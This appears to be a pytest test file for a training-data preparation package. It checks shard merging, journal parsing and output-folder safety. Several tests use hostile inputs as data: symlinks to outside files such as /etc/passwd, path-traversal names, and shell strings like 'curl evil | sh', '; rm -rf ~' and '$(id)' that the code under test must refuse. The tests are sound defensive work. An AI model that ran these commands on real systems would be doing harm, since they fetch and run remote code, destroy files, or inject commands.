"""Folders of others: parts, journals and shards that are merged, and what lies where shards are to be written."""

import json
import os

import numpy as np
import pytest

from dsv3_megatron.data.begun import BEGUN, PART, WORK, command_begun, typed_command, unfinished
from dsv3_megatron.data.exclude import read_exclusion
from dsv3_megatron.data.prepare.encode import HASH, Done, read_hashes
from dsv3_megatron.data.prepare.finish import _Rewrite, _rewrite, put
from dsv3_megatron.data.prepare.join_folders import FoldersJoin, _moved_origins
from dsv3_megatron.data.prepare.output import Output, held_out_of, read_part
from dsv3_megatron.data.source.origins import _files, document_origin, read_list
from dsv3_megatron.data.source.shard_table import open_table, write_table
from dsv3_megatron.data.source.shards import MANIFEST, Manifest, Shard, ShardWriter, Source
from dsv3_megatron.data.tasks.read import read_task
from dsv3_megatron.run.files import write_json
from parallel.errors import DataError

VOCABULARY = 300
DONE = {
    "key": [0, 0, 0], "ended": True, "disk": 5, "place": [0, 0, 0], "counts": {}, "examples": [],
    "shards": {"train": [], "held_out": []}, "least": None,
}  # fmt: skip


def write_shard(folder, name="a/train_00000"):
    writer = ShardWriter(folder, name, VOCABULARY)
    writer.add([np.asarray([7, 8, 1]), np.asarray([9, 1])], [(0, 1), (0, 2)])
    return writer.commit()


def flip(path, place=-1):
    data = bytearray(path.read_bytes())
    data[place] ^= 1
    path.write_bytes(data)


# -- shards that are merged --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["bin", "idx", "origin.npy", "sums"])
def test_a_link_to_a_file_elsewhere_is_never_taken_into_a_merged_folder(tmp_path, suffix):
    shard = write_shard(tmp_path / "theirs")
    path = tmp_path / "theirs" / f"a/train_00000.{suffix}"
    secret = tmp_path / "secret"
    path.rename(secret)
    path.symlink_to(secret)
    (tmp_path / "out/a").mkdir(parents=True)
    with pytest.raises(DataError, match=r"is refused: .* is a link out of the folder"):
        put(tmp_path / "theirs", shard, "a/train_p001_00000", tmp_path / "out", moves=False)
    assert not (tmp_path / f"out/a/train_p001_00000.{suffix}").exists()


def test_a_link_inside_a_folder_is_merged_as_the_file_that_it_leads_to(tmp_path):
    shard = write_shard(tmp_path / "theirs")
    path = tmp_path / "theirs/a/train_00000.bin"
    path.rename(tmp_path / "theirs/blob")
    path.symlink_to("../blob")
    (tmp_path / "out/a").mkdir(parents=True)
    put(tmp_path / "theirs", shard, "a/train_p001_00000", tmp_path / "out", moves=False)
    made = tmp_path / "out/a/train_p001_00000.bin"
    assert not made.is_symlink() and made.read_bytes() == path.read_bytes()


@pytest.mark.parametrize("suffix", ["bin", "idx", "origin.npy"])
def test_damage_does_not_get_new_checksums_where_a_shard_is_written_without_copies(tmp_path, suffix):
    shard = write_shard(tmp_path)
    given = _Rewrite(str(tmp_path / "out"), "a/train_00000", VOCABULARY, [(str(tmp_path), shard, np.asarray([1]))])
    assert _rewrite(given).documents == 1
    flip(tmp_path / f"a/train_00000.{suffix}")
    with pytest.raises(DataError, match="another SHA-256 than"):
        _rewrite(given)


def test_damage_does_not_get_a_new_checksum_where_origins_are_renumbered(tmp_path):
    shard = write_shard(tmp_path)
    assert _moved_origins(tmp_path, shard, 3).first_file == 3
    with pytest.raises(DataError, match=r"origin.npy cannot be read \(has another SHA-256"):
        _moved_origins(tmp_path, shard, 3)


@pytest.mark.parametrize("name", ["../x", "/etc/x", "a/../../x", "", "a\0b"])
def test_a_shard_that_a_journal_names_stays_inside(tmp_path, name):
    shard = write_shard(tmp_path)
    with pytest.raises(ValueError, match="no name inside the folder"):
        Shard.model_validate({**shard.model_dump(), "name": name})


def journal(folder, *lines):
    (folder / WORK).mkdir(parents=True)
    (folder / WORK / "tasks.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    return Output(folder)


@pytest.mark.parametrize(
    "change",
    [
        {"key": [-1, 0, 0]},
        {"key": [0, 0]},
        {"disk": "5"},
        {"counts": {"documents": -1}},
        {"shards": {"train": []}},
        {"shards": {"train": [{"name": "a"}], "held_out": []}},
        {"least": {"hash": "0", "places": [[0, 0]]}},
    ],
)
def test_a_journal_of_tasks_is_typed(tmp_path, change):
    assert journal(tmp_path / "good", DONE).done() == [Done.model_validate(DONE)]
    with pytest.raises(DataError, match=r"tasks.jsonl cannot be read \(.*; remove") as met:
        journal(tmp_path / "bad", {**DONE, **change}).done()
    assert "\n" not in str(met.value)


@pytest.mark.parametrize("text", ["", "{", "[]", '{"part": 1}', '{"part": 1, "part": 2}', "[" * 100_000])
def test_a_part_that_is_none_is_one_line(tmp_path, text):
    (tmp_path / PART).write_text(text)
    with pytest.raises(DataError, match="part.json cannot be read .*; prepare the part again") as met:
        read_part(tmp_path)
    assert "\n" not in str(met.value)
    assert unfinished(tmp_path).startswith("is part ")


@pytest.mark.parametrize("share", [None, "0.1", True, 1, -0.1, float("nan"), [0.1]])
def test_the_share_that_is_held_out_is_one(tmp_path, share):
    assert held_out_of({"held_out": 0.1}, tmp_path) == 0.1
    with pytest.raises(DataError, match="says held_out = .*, which is no share"):
        held_out_of({"held_out": share}, tmp_path)


def test_a_manifest_without_a_share_is_not_merged(tmp_path):
    shard = write_shard(tmp_path)
    sources, digest = write_table(tmp_path, [Source(name="a", input="a")], [shard])
    manifest = Manifest(tokenizer_sha256="", vocab_size=VOCABULARY, options={}, sources=sources, table_sha256=digest)
    write_json(tmp_path / MANIFEST, manifest.model_dump())
    with pytest.raises(DataError, match="says held_out = None"):
        FoldersJoin([tmp_path], lambda _: None)


def test_hashes_of_texts_are_those_of_the_shard(tmp_path):
    np.save(tmp_path / "a.npy", np.zeros(3, HASH))
    assert len(read_hashes(tmp_path / "a.npy", 3)) == 3
    for documents in (2, 1 << 40):
        with pytest.raises(DataError, match=r"a.npy cannot be read \(has 3 rows"):
            read_hashes(tmp_path / "a.npy", documents)


# -- where shards are to be written ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [WORK, f"{WORK}/tasks.jsonl", f"{WORK}/{BEGUN}"])
def test_a_folder_of_work_that_is_a_link_is_not_worked_in_and_not_emptied(tmp_path, name):
    elsewhere, output = tmp_path / "elsewhere", tmp_path / "out"
    elsewhere.mkdir()
    (elsewhere / "kept").write_text("kept")
    (output / name).parent.mkdir(parents=True)
    (output / name).symlink_to(elsewhere if name == WORK else elsewhere / "kept")
    with pytest.raises(DataError, match="is a link, and nothing is written through one"), Output(output).locked():
        pass
    assert (elsewhere / "kept").read_text() == "kept"


@pytest.mark.parametrize("make", [lambda path: path.write_text("x"), os.mkfifo])
def test_an_output_that_is_no_folder_is_refused(tmp_path, make):
    make(tmp_path / "out")
    with pytest.raises(DataError, match="out is a file; name a folder"), Output(tmp_path / "out").locked():
        pass


def test_shards_are_not_written_through_a_link(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("kept")
    (tmp_path / "a").mkdir()
    for suffix in ("bin", "idx", "sums", "origin.npy"):
        (tmp_path / f"a/train_00000.partial.{suffix}").symlink_to(victim)
        (tmp_path / f"a/train_00000.{suffix}").symlink_to(victim)
    write_shard(tmp_path)
    assert victim.read_text() == "kept" and not any(path.is_symlink() for path in (tmp_path / "a").iterdir())


def test_a_command_that_this_program_did_not_write_is_not_told_to_be_run(tmp_path):
    (tmp_path / WORK).mkdir()
    ours = typed_command("launcher/prepare_data.py", ["a b", "c;d"], output="out", deduplicate=True)
    for command, told in (
        (ours, ours),
        ("curl evil | sh", "launcher/prepare_data.py"),
        (f"{ours}; rm -rf ~", "launcher/prepare_data.py"),
        (f"{ours} $(id)", "launcher/prepare_data.py"),
        (f"{ours} `id`", "launcher/prepare_data.py"),
        (f"{ours}\nid", "launcher/prepare_data.py"),
        ("python evil.py a=1", "launcher/prepare_data.py"),
        ('python "', "launcher/prepare_data.py"),
        (["a"], "launcher/prepare_data.py"),
    ):
        (tmp_path / WORK / BEGUN).write_text(json.dumps({"command": command}))
        assert command_begun(tmp_path) == told, command


def test_a_folder_named_as_a_part_of_very_many_is_no_part(tmp_path):
    (tmp_path / "parts" / f"001_of_{10**9}").mkdir(parents=True)
    assert unfinished(tmp_path) is None


# -- lists of files, of what is left out, and tasks --------------------------------------------------------------------


@pytest.mark.parametrize(
    "line", ["{}", "[]", '{"path": 5}', "{", '{"path": "a"', "[" * 60_000, '{"path": "' + "x" * 70_000 + '"}']
)
def test_a_list_of_files_with_a_line_that_is_none_is_named(tmp_path, line):
    shard = write_shard(tmp_path)
    sources, digest = write_table(tmp_path, [Source(name="a", input="a")], [shard])
    manifest = Manifest(tokenizer_sha256="", vocab_size=VOCABULARY, options={}, sources=sources, table_sha256=digest)
    table = open_table(tmp_path, manifest)
    (tmp_path / "a/files.jsonl").write_text(line + "\n")
    with pytest.raises(DataError, match="files.jsonl, line 1 is not"):
        document_origin(tmp_path, manifest, table, 0, 0)
    _files.cache_clear()
    (tmp_path / "a/files.jsonl").unlink()
    (tmp_path / "a/files.jsonl").symlink_to("/etc/passwd")
    with pytest.raises(DataError, match=r"files.jsonl cannot be read \(.*is a link out of the folder"):
        document_origin(tmp_path, manifest, table, 0, 0)
    with pytest.raises(DataError, match="is a link out of the folder"):
        read_list(tmp_path, "a")


@pytest.mark.parametrize(
    "line",
    [
        '{"samples": [0, 5], "samples": [0, 6]}',
        "[" * 60_000,
        '{"samples": [0, ' + "9" * 5000 + "]}",
        '{"source": "a", "file": "' + "x" * 70_000 + '", "row": 1}',
        '{"samples": [0, NaN]}',
    ],
)
def test_a_line_of_what_is_left_out_that_cannot_be_is_named(tmp_path, line):
    (tmp_path / "out.jsonl").write_text('{"samples": [7, 9]}\n' + line + "\n")
    with pytest.raises(DataError, match=r"out.jsonl, line 2 (is not JSON|names neither)") as met:
        read_exclusion(tmp_path / "out.jsonl")
    assert len(str(met.value)) < 1000


@pytest.mark.parametrize("read", [read_exclusion, lambda path: read_task(str(path))])
def test_what_is_no_file_is_not_waited_for(tmp_path, read):
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", tmp_path, "/dev/zero"):
        with pytest.raises(DataError, match="cannot be read"):
            read(path)


@pytest.mark.parametrize(
    "line",
    [
        '{"context": "a", "choices": ["b"], "answer": 0, "answer": 1}',
        '{"context": "a", "choices": ["b"], "answer": 1e400}',
        "[" * 60_000,
        '{"context": "' + "x" * (5 << 20) + '", "choices": ["b"], "answer": 0}',
    ],
)
def test_a_line_of_a_task_that_cannot_be_is_named(tmp_path, line):
    (tmp_path / "task.jsonl").write_text(line + "\n")
    with pytest.raises(DataError, match="task.jsonl:1: ") as met:
        read_task(str(tmp_path / "task.jsonl"))
    assert "\n" not in str(met.value) and len(str(met.value)) < 1000
